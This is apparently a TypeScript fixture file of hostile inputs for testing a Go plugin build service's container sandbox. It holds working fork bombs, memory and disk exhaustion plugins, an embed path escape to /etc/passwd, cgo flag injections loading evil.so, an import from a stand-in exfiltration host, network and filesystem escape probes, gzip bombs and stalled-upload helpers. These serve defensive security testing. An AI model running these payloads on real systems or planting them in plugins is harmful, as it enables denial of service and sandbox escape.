/**
 * Hostile inputs for the security suites: plugins whose build attacks its container, the
 * probe-style programs that stand in for plugin code running inside one, and helpers that
 * send uploads the way an attacker's client would (stalled, trickled, oversized).
 */
import { readdir } from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { createGzip } from 'node:zlib';

const goMod = (module: string): string => `module example.com/${module}\n\ngo 1.22\n`;

/**
 * Allocates without end: the cgo preamble includes /dev/zero, so the C preprocessor reads
 * zeros until the memory limit stops it (the kernel kills cc1; go build then fails).
 */
export const MEMORY_HOG: Record<string, string> = {
  'go.mod': goMod('memhog'),
  'plugin.go': 'package main\n\n/*\n#include "/dev/zero"\n*/\nimport "C"\n\nfunc main() {}\n',
};

/**
 * Never finishes: the cgo preamble includes /dev/ptmx, a terminal master nobody ever
 * writes to, so the C preprocessor waits on it for ever. Only the deadline ends it.
 */
export const NEVER_ENDS: Record<string, string> = {
  'go.mod': goMod('forever'),
  'plugin.go': 'package main\n\n/*\n#include "/dev/ptmx"\n*/\nimport "C"\n\nfunc main() {}\n',
};

/** A plugin that embeds `mb` MiB (zeros: a tiny upload, a huge .so). */
export function hugeArtifact(mb: number): Record<string, string | Buffer> {
  return {
    'go.mod': goMod('huge'),
    'plugin.go':
      'package main\n\nimport _ "embed"\n\n//go:embed blob.bin\nvar Blob []byte\n\n// Size keeps Blob alive.\nfunc Size() int { return len(Blob) }\n\nfunc main() {}\n',
    'blob.bin': Buffer.alloc(mb * 1024 * 1024, 1),
  };
}

/**
 * Wants the network during the build: imports a package no module in go.mod provides, which
 * go would fetch from a proxy; with GOPROXY=off and no network it cannot even try.
 */
export const NETWORK_IMPORT: Record<string, string> = {
  'go.mod': goMod('exfil'),
  'plugin.go':
    'package main\n\nimport "evil.example.com/exfil"\n\n// Send is looked up by the host.\nfunc Send() { exfil.Send() }\n\nfunc main() {}\n',
};

/** Reaches outside its directory through //go:embed (a read of the host's or image's files). */
export const EMBED_ESCAPE: Record<string, string> = {
  'go.mod': goMod('escape'),
  'plugin.go': 'package main\n\nimport _ "embed"\n\n//go:embed ../../../etc/passwd\nvar Passwd string\n\nfunc main() {}\n',
};

/**
 * Build-time code execution and writes through cgo flags: a gcc plugin (-fplugin, which
 * would run the plugin's own code inside the compiler), a linker plugin, and an output file
 * of its own choosing. cmd/go allows only a list of safe flags in #cgo lines.
 */
export const CGO_FLAG_ESCAPES: Record<string, string>[] = [
  '#cgo CFLAGS: -fplugin=./evil.so',
  '#cgo LDFLAGS: -Wl,-plugin,./evil.so',
  '#cgo CFLAGS: -o /usr/local/go/bin/go',
].map((line, i) => ({
  'go.mod': goMod(`cgoflag${i}`),
  'plugin.go': `package main\n\n/*\n${line}\n*/\nimport "C"\n\nfunc main() {}\n`,
}));

/** gcc prints an error per line of this file: far more output than the log cap. */
export function logFlood(lines: number): Record<string, string> {
  const c = ['int flood(void) {'];
  for (let i = 0; i < lines; i++) c.push(`  undeclared_${i} = ${i}; /* each line an error, about 200 bytes of output */`);
  c.push('  return 0;', '}');
  return {
    'go.mod': goMod('flood'),
    'plugin.go': 'package main\n\nimport "C"\n\nfunc main() {}\n',
    'flood.c': `${c.join('\n')}\n`,
  };
}

/**
 * Probe-style programs: what a plugin's init could do when it is loaded, run through the
 * worker's target path with `go run .` as the command, under exactly the build container's
 * settings (FORK_BOMB_PLUGIN goes through the real loading probe).
 */
export const FORK_BOMB_PROBE: Record<string, string> = {
  'go.mod': goMod('forkbomb'),
  'main.go': `package main

import (
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"sync"
	"time"
)

// threads makes n OS threads and leaves them idle: a Go program at the pids limit dies
// ("failed to create new OS thread") when it needs a thread it does not have yet.
func threads(n int) {
	var locked, done sync.WaitGroup
	locked.Add(n)
	done.Add(n)
	release := make(chan struct{})
	for i := 0; i < n; i++ {
		go func() {
			runtime.LockOSThread()
			locked.Done()
			<-release
			runtime.UnlockOSThread()
			done.Done()
		}()
	}
	locked.Wait()
	close(release)
	done.Wait()
}

// init forks copies of this program, which fork copies in turn, for 8 seconds each; the
// first one then exits 1, which ends the container (it is its first process).
func init() {
	threads(16)
	refused := 0
	for until := time.Now().Add(8 * time.Second); time.Now().Before(until); {
		if err := exec.Command("/proc/self/exe").Start(); err != nil {
			if refused == 0 {
				fmt.Fprintf(os.Stderr, "fork refused: %v\\n", err)
			}
			refused++
		}
	}
	os.Exit(1)
}

func main() {}
`,
};

/**
 * A plugin whose init is a fork bomb when it is loaded: each copy re-runs the host that
 * loaded it (the loading probe) with the same arguments, so every child loads the plugin
 * and forks in turn; after 8 s the first one exits 1.
 */
export const FORK_BOMB_PLUGIN: Record<string, string> = {
  'go.mod': goMod('forkbombplugin'),
  'plugin.go': `package main

import (
	"fmt"
	"os"
	"os/exec"
	"time"
)

func init() {
	refused := 0
	for until := time.Now().Add(8 * time.Second); time.Now().Before(until); {
		if err := exec.Command("/proc/self/exe", os.Args[1:]...).Start(); err != nil {
			if refused == 0 {
				fmt.Fprintf(os.Stderr, "fork refused: %v\\n", err)
			}
			refused++
		}
	}
	os.Exit(1)
}

// Hello is what a host would call.
func Hello() string { return "hello" }

func main() {}
`,
};

/** Tries the network from inside the container; prints one line per attempt, exits 3. */
export const NETWORK_PROBE: Record<string, string> = {
  'go.mod': goMod('netprobe'),
  'main.go': `package main

import (
	"fmt"
	"net"
	"os"
	"time"
)

func main() {
	ifaces, _ := net.Interfaces()
	for _, i := range ifaces {
		fmt.Printf("interface %s\\n", i.Name)
	}
	for _, addr := range []string{"1.1.1.1:53", "172.17.0.1:6379", "172.17.0.1:2375", "10.0.0.1:80"} {
		c, err := net.DialTimeout("tcp", addr, 2*time.Second)
		if err == nil {
			c.Close()
			fmt.Printf("dial %s: CONNECTED\\n", addr)
		} else {
			fmt.Printf("dial %s: refused: %v\\n", addr, err)
		}
	}
	if _, err := net.LookupHost("proxy.golang.org"); err == nil {
		fmt.Println("dns: RESOLVED")
	} else {
		fmt.Printf("dns: refused: %v\\n", err)
	}
	if _, err := os.Stat("/var/run/docker.sock"); err == nil {
		fmt.Println("docker socket: PRESENT")
	} else {
		fmt.Println("docker socket: absent")
	}
	os.Exit(3)
}
`,
};

/** Tries to write outside its directories and reports who it is; prints one line each, exits 3. */
export const FILESYSTEM_PROBE: Record<string, string> = {
  'go.mod': goMod('fsprobe'),
  'main.go': `package main

import (
	"fmt"
	"os"
	"strings"
	"syscall"
)

func main() {
	for _, p := range []string{"/planted", "/etc/planted", "/usr/local/go/bin/planted", "/work/planted", "/tmp/planted.sh", "/work/src/planted", "/work/out/planted"} {
		if err := os.WriteFile(p, []byte("#!/bin/sh\\n"), 0o755); err == nil {
			fmt.Printf("write %s: WRITTEN\\n", p)
		} else {
			fmt.Printf("write %s: refused: %v\\n", p, err)
		}
	}
	if err := syscall.Exec("/tmp/planted.sh", []string{"planted"}, nil); err != nil {
		fmt.Printf("exec /tmp/planted.sh: refused: %v\\n", err)
	}
	for _, p := range []string{"/work", "/work/src", "/work/out"} {
		if st, err := os.Stat(p); err == nil {
			fmt.Printf("owner %s: %d\\n", p, st.Sys().(*syscall.Stat_t).Uid)
		}
	}
	fmt.Printf("uid: %d gid: %d\\n", os.Getuid(), os.Getgid())
	status, _ := os.ReadFile("/proc/self/status")
	for _, line := range strings.Split(string(status), "\\n") {
		if strings.HasPrefix(line, "CapEff:") || strings.HasPrefix(line, "CapBnd:") || strings.HasPrefix(line, "NoNewPrivs:") || strings.HasPrefix(line, "Seccomp:") {
			fmt.Println(strings.Join(strings.Fields(line), " "))
		}
	}
	os.Exit(3)
}
`,
};

/** Every file under `dir` (relative paths, sorted); an absent directory has none. */
export async function filesUnder(dir: string): Promise<string[]> {
  const entries = await readdir(dir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)))
    .sort();
}

/** The gzip of `bytes` zero bytes, streamed (never held inflated). */
export async function gzipOfZeros(bytes: number): Promise<Buffer> {
  const chunks: Buffer[] = [];
  const block = Buffer.alloc(1024 * 1024);
  await pipeline(
    Readable.from(
      (function* () {
        for (let left = bytes; left > 0; left -= block.length) yield left >= block.length ? block : block.subarray(0, left);
      })(),
    ),
    createGzip({ level: 9 }),
    async (source: AsyncIterable<Buffer>) => {
      for await (const chunk of source) chunks.push(chunk);
    },
  );
  return Buffer.concat(chunks);
}

export interface RawResponse {
  status: number;
  body: any;
  /** From the first byte written to the response's end. */
  ms: number;
  /** Body bytes the client had written when the response came. */
  sent: number;
}

/**
 * POSTs the way a hostile client would: `chunks` are written one by one with `gapMs`
 * between them, and the request is ended only if `end` (a stalled client never ends it).
 * Resolves with the answer as soon as there is one, whatever is still unsent, and then
 * drops the connection.
 */
export function rawPost(
  base: string,
  pathAndQuery: string,
  options: { headers?: Record<string, string>; chunks: Buffer[]; gapMs?: number; end?: boolean; giveUpMs?: number },
): Promise<RawResponse> {
  const url = new URL(pathAndQuery, base);
  const started = Date.now();
  let sent = 0;
  let answered = false;
  return new Promise<RawResponse>((resolve, reject) => {
    const req = http.request(url, { method: 'POST', headers: options.headers ?? {} });
    const giveUp = setTimeout(() => {
      req.destroy();
      reject(new Error(`no answer within ${options.giveUpMs ?? 30_000} ms (${sent} bytes sent)`));
    }, options.giveUpMs ?? 30_000);
    req.on('response', (res) => {
      answered = true;
      const sentWhenAnswered = sent;
      const parts: Buffer[] = [];
      res.on('data', (c: Buffer) => parts.push(c));
      res.on('end', () => {
        clearTimeout(giveUp);
        const text = Buffer.concat(parts).toString();
        let body: unknown = text;
        try {
          body = JSON.parse(text);
        } catch {
          // not JSON: keep the text
        }
        req.destroy();
        resolve({ status: res.statusCode ?? 0, body, ms: Date.now() - started, sent: sentWhenAnswered });
      });
    });
    // The server may close while the body is still being written: the answer is what counts.
    req.on('error', (err) => {
      if (answered) return;
      setTimeout(() => {
        if (!answered) {
          clearTimeout(giveUp);
          reject(err);
        }
      }, 500);
    });
    (async () => {
      for (const chunk of options.chunks) {
        if (answered || req.destroyed) return;
        await new Promise<void>((done) => req.write(chunk, () => done()));
        sent += chunk.length;
        if (options.gapMs) await new Promise((r) => setTimeout(r, options.gapMs));
      }
      if (options.end !== false && !answered && !req.destroyed) req.end();
    })().catch(() => undefined);
  });
}

/**
 * A plugin whose init writes without end, as loading it (the loading probe) runs it: 1 MiB
 * at a time into /tmp until that is refused, then into /work/out (where the artifact lies)
 * until that is refused too, and then panics with the error.
 */
export const DISK_FILLER_PLUGIN: Record<string, string> = {
  'go.mod': goMod('diskfiller'),
  'plugin.go': `package main

import "os"

func fill(path string) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	chunk := make([]byte, 1<<20)
	for {
		if _, err := f.Write(chunk); err != nil {
			return err
		}
	}
}

func init() {
	_ = fill("/tmp/fill")
	panic(fill("/work/out/fill"))
}

// Hello is what a host would call.
func Hello() string { return "hello" }

func main() {}
`,
};

/**
 * A plugin whose init allocates without end, as loading it (the loading probe) runs it:
 * 16 MiB at a time, each touched so that it is really used, kept alive in a slice.
 */
export const MEMORY_HOG_PLUGIN: Record<string, string> = {
  'go.mod': goMod('memhogplugin'),
  'plugin.go': `package main

var kept [][]byte

func init() {
	for {
		chunk := make([]byte, 16<<20)
		for i := range chunk {
			chunk[i] = 1
		}
		kept = append(kept, chunk)
	}
}

// Hello is what a host would call.
func Hello() string { return "hello" }

func main() {}
`,
};

/** A plugin whose init never returns, as loading it (the loading probe) runs it. */
export const SLEEPER_PLUGIN: Record<string, string> = {
  'go.mod': goMod('sleeperplugin'),
  'plugin.go': `package main

import "time"

func init() {
	for {
		time.Sleep(time.Hour)
	}
}

// Hello is what a host would call.
func Hello() string { return "hello" }

func main() {}
`,
};

/**
 * A build that writes without end: the cgo preamble makes the assembler emit a 2 GiB data
 * section, so the object file it writes under $WORK (in /work) grows until the disk says no.
 */
export const DISK_FILLER_BUILD: Record<string, string> = {
  'go.mod': goMod('diskfillerbuild'),
  'plugin.go': 'package main\n\n/*\n__asm__(".section .data\\n.fill 0x7fffffff, 1, 1\\n.previous");\n*/\nimport "C"\n\nfunc main() {}\n',
};
